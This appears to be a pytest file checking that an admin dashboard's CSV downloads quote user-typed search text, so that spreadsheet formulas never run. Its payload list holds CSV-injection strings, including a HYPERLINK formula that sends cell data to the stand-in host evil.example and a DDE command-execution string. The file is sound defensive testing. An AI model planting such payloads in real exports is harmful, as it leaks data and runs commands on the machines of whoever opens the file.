"""CSV downloads never carry a live spreadsheet formula, whatever viewers typed."""

import csv
import io

import webapp.admin.insights_routes  # noqa: F401  (registers the routes on the admin blueprint)
from tests.conftest import AuthActions
from tests.webapp.catalog_factory import make_account
from webapp.admin.insights_routes import PAGES
from webapp.insights.tables import tables_for

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@sum(1+1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _search_as_viewer(app, queries: list[tuple[str, int]]) -> None:
    viewer = app.test_client()
    with app.app_context():
        _, (profile_id,) = make_account("searcher@example.com")
    AuthActions(viewer).as_viewer(profile_id)
    events = [{"type": "search", "text": q, "value": n, "page": "search"} for q, n in queries]
    assert viewer.post("/api/events", json={"events": events}).status_code == 200


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_zero_result_searches_download_as_text_not_formulas(app):
    _search_as_viewer(app, [(p, 0) for p in PAYLOADS])
    admin = AuthActions(app.test_client()).as_admin()
    assert admin.post("/admin/insights/refresh").status_code == 302
    rows = _rows(admin.get("/admin/insights/supply/zero-results.csv"))
    queries = {row[0] for row in rows[1:]}
    # Queries are reported lower-cased; each keeps its text behind the quote.
    assert queries == {"'" + p.lower() for p in PAYLOADS}


def test_every_csv_download_quotes_cells_a_spreadsheet_would_evaluate(app):
    _search_as_viewer(app, [(p, 0) for p in PAYLOADS] + [(p, 3) for p in PAYLOADS])
    admin = AuthActions(app.test_client()).as_admin()
    assert admin.post("/admin/insights/refresh").status_code == 302
    cells = 0
    for page in PAGES:
        for table in tables_for(page):
            rows = _rows(admin.get(f"/admin/insights/{page}/{table.name}.csv"))
            for row in rows:
                for cell in row:
                    cells += 1
                    if cell.startswith(FORMULA_STARTS):
                        assert _is_number(cell), (page, table.name, cell)
    unwatched = _rows(admin.get("/admin/insights/supply/unwatched.csv"))
    assert {row[0] for row in unwatched[1:]} == {"'" + p.lower() for p in PAYLOADS}
    assert cells > 0
